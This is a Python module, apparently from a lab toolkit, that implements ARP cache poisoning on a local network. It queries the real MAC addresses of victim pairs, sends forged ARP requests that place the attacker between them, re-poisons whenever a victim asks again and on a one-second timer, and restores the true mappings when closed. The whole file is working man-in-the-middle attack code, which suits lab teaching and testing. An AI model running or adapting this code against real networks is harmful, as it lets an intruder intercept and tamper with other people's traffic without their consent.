"""Getting on the path of a LAN: ARP poisoning (RFC 826), and the truth told again on leaving.

ARP has no way to tell who may answer: a host believes whoever says "I have this address". So the attacker tells each
victim that the other one's address is at its own MAC address, and the switch delivers to it. What it does with the
frames that come then does not belong here.
"""

import select
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import suppress

from labkit.errors import LabError

ARP_FRAMES = 0x0806
"""ETH_P_ARP of <linux/if_ether.h>."""
_BROADCAST = "ff:ff:ff:ff:ff:ff"
_AGAIN = 1.0
"""Seconds after which the lies are told again; a victim asks for itself when an entry is half a minute old."""
_PATIENCE = 3.0
"""Seconds for all victims to answer; they take less than a millisecond."""
_RETRY = 0.3
_LARGEST = 2048

Ends = tuple[str, str]
"""Two IP addresses."""


class Poisoning:
    """Whoever has the MAC address `mac` stands between pairs of hosts, from construction to `close`.

    `sock` is a packet socket for ARP on the attacker's interface, and is owned from now on; `ip` is the attacker's own
    address, and `pairs` are the IP addresses of those who are to talk through it. Raises `LabError` when a host does
    not answer.
    """

    def __init__(self, sock: socket.socket, ip: str, mac: str, pairs: list[Ends]) -> None:
        self._socket = sock
        self._mac = mac
        self._pairs = [*pairs, *((other, one) for one, other in pairs)]
        """(who is lied to, whose address the lie is about)."""
        self._alarm, self._bell = socket.socketpair()
        self._thread = threading.Thread(target=self._run, name="labkit arp", daemon=True)
        try:
            self._real = self._until_answered({victim: self._question(ip, victim) for victim, _ in self._pairs})
            self._until_answered({victim: self._claim(victim, about, mac) for victim, about in self._pairs})
        except BaseException:
            self._put_away()
            raise
        self._thread.start()

    def close(self) -> None:
        """Stop lying and tell everybody the truth. A second call does nothing."""
        if self._bell.fileno() < 0:
            return
        self._bell.send(b".")
        self._thread.join(_PATIENCE)
        with suppress(OSError):  # the LAN may be gone
            for victim, about in self._pairs:
                self._socket.send(self._claim(victim, about, self._real[about]))
        self._put_away()

    def _put_away(self) -> None:
        for sock in (self._socket, self._alarm, self._bell):
            sock.close()

    def _question(self, ip: str, victim: str) -> bytes:
        """Who has the victim's address? The honest question of any host."""
        return _request(self._mac, _BROADCAST, self._mac, ip, victim)

    def _claim(self, victim: str, about: str, mac: str) -> bytes:
        """A question to the victim that says in passing where the address `about` is.

        A receiver merges the sender's addresses of any question into its table (RFC 826, "Packet Reception"); Linux
        believes a question at once, but not an answer that nobody asked for. The frame itself has the attacker's MAC
        address even when it tells the truth, or the switch would learn that the other host is at this port.
        """
        return _request(self._mac, self._real[victim], mac, about, victim)

    def _until_answered(self, questions: dict[str, bytes]) -> dict[str, str]:
        """Ask until everybody has answered: IP address -> the MAC address that its owner told."""
        answers: dict[str, str] = {}
        deadline = time.monotonic() + _PATIENCE
        while missing := questions.keys() - answers.keys():
            if time.monotonic() > deadline:
                raise LabError(f"{', '.join(sorted(missing))} did not answer the ARP request within {_PATIENCE:g} s.")
            for ip in missing:
                self._socket.send(questions[ip])
            while missing - answers.keys() and select.select([self._socket], [], [], _RETRY)[0]:
                answers |= {ip: mac for operation, mac, ip in self._heard() if operation == "is-at"}
        return answers

    def _run(self) -> None:
        """Lie again whenever a victim has asked the LAN, since the answer was the truth, and from time to time."""
        with suppress(OSError):  # the LAN may be gone
            while True:
                ready, _, _ = select.select([self._socket, self._alarm], [], [], _AGAIN)
                if self._alarm in ready:
                    return
                asked = any(operation == "who-has" for operation, _, _ in self._heard())
                if asked or not ready:
                    for victim, about in self._pairs:
                        self._socket.send(self._claim(victim, about, self._mac))

    def _heard(self) -> Iterator[tuple[str, str, str]]:
        """(operation, MAC address, IP address) of each ARP packet that others have sent since."""
        from scapy.layers.l2 import ARP, Ether

        with suppress(BlockingIOError):
            while True:
                packet = Ether(self._socket.recv(_LARGEST, socket.MSG_DONTWAIT))
                if ARP in packet and packet[ARP].hwsrc != self._mac:
                    yield packet.sprintf("%ARP.op%"), packet[ARP].hwsrc, packet[ARP].psrc


def _request(source: str, target: str, mac: str, ip: str, wanted: str) -> bytes:
    """The frame of an ARP request from `source` to `target`, in which `mac` has `ip` and asks who has `wanted`."""
    from scapy.layers.l2 import ARP, Ether

    return bytes(Ether(src=source, dst=target) / ARP(op="who-has", hwsrc=mac, psrc=ip, pdst=wanted))
